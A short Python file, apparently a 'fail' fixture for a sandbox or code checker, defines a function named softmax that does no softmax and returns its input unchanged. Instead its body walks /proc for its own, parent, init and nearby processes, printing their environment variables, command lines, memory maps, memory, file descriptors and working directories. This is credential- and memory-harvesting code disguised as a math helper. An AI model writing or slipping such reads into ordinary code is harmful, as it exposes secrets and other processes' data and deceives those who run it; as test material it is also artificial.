"""fail: reads the environment, memory and descriptors of the processes around it."""
import os


def softmax(scores, axis=-1):
    for pid in ("self", os.getppid(), 1, *range(os.getpid() - 20, os.getpid() + 20)):
        for name in ("environ", "cmdline", "maps", "mem", "fd", "root", "cwd", "stat"):
            try:
                path = f"/proc/{pid}/{name}"
                print(path, os.readlink(path) if name in ("root", "cwd") else open(path, "rb").read(4096))
            except OSError:
                continue
    return scores
